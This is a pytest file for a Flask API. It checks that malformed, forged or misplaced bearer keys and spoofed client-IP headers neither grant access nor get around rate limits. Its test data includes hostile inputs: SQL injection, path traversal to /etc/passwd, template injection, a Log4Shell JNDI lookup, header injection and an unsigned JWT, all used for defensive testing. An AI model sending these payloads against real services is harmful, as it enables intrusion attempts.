"""Catalogue 8: what stands where a key belongs, and what claims to be another caller."""

from pathlib import Path

import pytest
from flask import Flask

from kbapi.access.key_text import new_key
from tests.input.asking import ask, judge, quiet_application

GUARDED = ("/v1/risks", "/v1/answers", "/v1/editions/current", "/fhir/Procedure", "/nobody/knows/this")
KEY = new_key()
NO_KEYS = {
    "nothing": "",
    "a scheme alone": "Bearer",
    "a scheme and a space": "Bearer ",
    "a scheme of its own": f"Token {KEY}",
    "a name and a password": "Basic YWRtaW46YWRtaW4=",
    "a digest": 'Digest username="admin", response="d41d8cd98f00b204e9800998ecf8427e"',
    "no scheme": KEY,
    "two keys": f"Bearer {KEY}, Bearer {KEY}",
    "two keys and no comma": f"Bearer {KEY} {KEY}",
    "quoted": f'Bearer "{KEY}"',
    "in another case": f"Bearer {KEY.upper()}",
    "cut": f"Bearer {KEY[:-1]}",
    "and more": f"Bearer {KEY}A",
    "its beginning": f"Bearer {KEY.split('_')[0]}",
    "a key that nobody has": f"Bearer {new_key()}",
    "one other character": f"Bearer {KEY[:-1]}{'A' if KEY[-1] != 'A' else 'B'}",
    "percent-encoded": f"Bearer {KEY.replace('_', '%5F')}",
    "with NUL": f"Bearer {KEY}\0",
    "with a line break": f"Bearer {KEY}\nX-Admin: 1",
    "with a tab": f"Bearer\t{KEY}",
    "letters that look alike": f"Bearer {KEY.replace('k', 'к')}",
    "bytes that are no text": "Bearer \udcff\udcfe",
    "long": f"Bearer {'k' * 15_000}",
    "longer than any header": f"Bearer {'k' * 20_000}",
    "SQL": "Bearer ' OR '1'='1",
    "a pattern": "Bearer kb_%",
    "a path": "Bearer ../../etc/passwd",
    "a template": "Bearer {{7*7}}${7*7}",
    "a look-up": "Bearer ${jndi:ldap://198.51.100.1/a}",
    "null": "Bearer null",
    "undefined": "Bearer undefined",
    "a token without signature": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
}
OTHER_PLACES = (
    "X-Api-Key", "Api-Key", "X-Auth-Token", "Proxy-Authorization", "X-Authorization", "Authentication",
    "Token", "X-Access-Token", "Cookie", "X-Original-Authorization", "X-Forwarded-Authorization",
    "X_Authorization",
)  # fmt: skip
FORGED = {
    "X-Forwarded-For": (
        "127.0.0.1",
        "::1",
        "198.51.100.7, 127.0.0.1",
        "unknown",
        "999.1.1.1",
        "a" * 5_000,
        "[::1",
    ),
    "Forwarded": ("for=127.0.0.1", 'for="[::1]"', "for=unknown;by=;;", "=" * 500),
    "X-Real-IP": ("127.0.0.1", "\0"),
    "True-Client-IP": ("127.0.0.1",),
    "CF-Connecting-IP": ("127.0.0.1",),
    "X-Client-IP": ("127.0.0.1",),
}


@pytest.fixture(scope="module")
def closed(real_state: Path) -> Flask:
    """Answers nobody without a key."""
    return quiet_application(real_state, public="none")


@pytest.fixture(scope="module")
def counting(real_state: Path) -> Flask:
    """Answers any caller twice a minute."""
    return quiet_application(real_state, rate_limit="2/minute")


@pytest.mark.parametrize("path", GUARDED)
@pytest.mark.parametrize("what", NO_KEYS)
def test_what_is_no_key_opens_nothing(closed: Flask, path: str, what: str) -> None:
    shown = NO_KEYS[what]
    expected = 431 if len(shown) > 16 * 1024 else 401
    found = ask(closed, path, headers={"Authorization": shown})
    judge(found, (expected,), secret=shown.partition(" ")[2])
    assert expected == 431 or found.response.headers["WWW-Authenticate"].startswith("Bearer")


@pytest.mark.parametrize("name", OTHER_PLACES)
@pytest.mark.parametrize("path", GUARDED)
def test_a_key_in_another_header_opens_nothing(closed: Flask, path: str, name: str) -> None:
    judge(ask(closed, path, headers={name: f"Bearer {KEY}"}), (401,), secret=KEY, by_syntax=True)


@pytest.mark.parametrize("name", FORGED)
def test_nobody_becomes_another_caller_by_a_header(counting: Flask, name: str) -> None:
    for _ in range(2):
        ask(counting, "/v1/risks")
    for value in FORGED[name]:
        judge(ask(counting, "/v1/risks", headers={name: value}), (429,), secret=value, by_syntax=True)
